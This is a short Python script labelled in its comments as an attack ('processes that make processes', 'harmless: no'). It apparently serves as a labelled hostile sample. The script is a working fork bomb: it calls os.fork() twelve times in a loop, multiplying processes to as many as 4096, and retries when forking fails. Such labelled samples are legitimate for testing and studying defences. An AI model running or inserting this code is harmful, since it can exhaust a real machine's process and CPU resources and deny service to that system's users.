# attack: processes that make processes
# harmless: no
import os
import time

for _ in range(12):
    try:
        os.fork()
    except OSError:
        time.sleep(0.2)
time.sleep(1)
